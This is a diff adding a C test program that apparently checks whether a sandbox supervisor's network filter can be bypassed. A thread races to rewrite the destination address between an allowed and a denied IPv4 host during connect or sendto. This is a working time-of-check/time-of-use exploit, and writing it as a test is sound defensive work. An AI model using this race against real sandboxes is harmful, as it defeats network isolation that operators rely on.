@@ -1,0 +1,75 @@
+/* atk-net-race tcp|udp TRIES ALLOWED-ADDR DENIED-ADDR PORT - the
+ * time-of-check race on connect's and sendto's address.
+ *
+ * A second thread keeps rewriting the IPv4 address in the sockaddr
+ * between ALLOWED (loopback) and DENIED while the main thread connects
+ * (tcp) or sends a datagram (udp) to it, TRIES times.  A supervisor that
+ * reads the address, allows it and lets the kernel read it again sends
+ * to DENIED; one that connects on its own copy (pidfd_getfd) does not.
+ * run.sh judges by the DENIED side's listener log.
+ */
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#include "atk.h"
+
+struct race {
+	struct sockaddr_in sin;
+	struct in_addr allowed, denied;
+	atomic_int stop;
+};
+
+static void *flipper(void *arg)
+{
+	struct race *r = arg;
+	volatile in_addr_t *a = &r->sin.sin_addr.s_addr;
+	unsigned seed = (unsigned)getpid();
+	while (!atomic_load_explicit(&r->stop, memory_order_relaxed)) {
+		*a = r->denied.s_addr;
+		for (unsigned i = rand_r(&seed) % 16; i > 0; i--)
+			syscall(SYS_getppid);
+		*a = r->allowed.s_addr;
+		for (unsigned i = rand_r(&seed) % 16; i > 0; i--)
+			syscall(SYS_getppid);
+	}
+	return NULL;
+}
+
+int main(int argc, char **argv)
+{
+	if (argc != 6)
+		atk_die("usage: atk-net-race tcp|udp TRIES ALLOWED DENIED PORT");
+	int is_tcp = !strcmp(argv[1], "tcp");
+	long tries = strtol(argv[2], NULL, 10);
+	static struct race r;
+	if (inet_pton(AF_INET, argv[3], &r.allowed) != 1 || inet_pton(AF_INET, argv[4], &r.denied) != 1)
+		atk_die("IPv4 addresses only");
+	r.sin.sin_family = AF_INET;
+	r.sin.sin_port = htons((unsigned short)strtoul(argv[5], NULL, 10));
+	r.sin.sin_addr = r.allowed;
+	pthread_t t;
+	if (pthread_create(&t, NULL, flipper, &r) != 0)
+		atk_die("pthread_create failed");
+	long ok = 0, refused = 0;
+	for (long i = 0; i < tries; i++) {
+		int fd = socket(AF_INET, (is_tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
+		if (fd < 0)
+			atk_die("socket: %m");
+		int rc = is_tcp ? connect(fd, (struct sockaddr *)&r.sin, sizeof r.sin)
+				: (int)sendto(fd, "CG-RACE\n", 8, 0, (struct sockaddr *)&r.sin, sizeof r.sin);
+		if (rc < 0)
+			refused++;
+		else
+			ok++;
+		close(fd);
+	}
+	atomic_store(&r.stop, 1);
+	pthread_join(t, NULL);
+	printf("tries=%ld ok=%ld refused=%ld\n", tries, ok, refused);
+	return 0;
+}
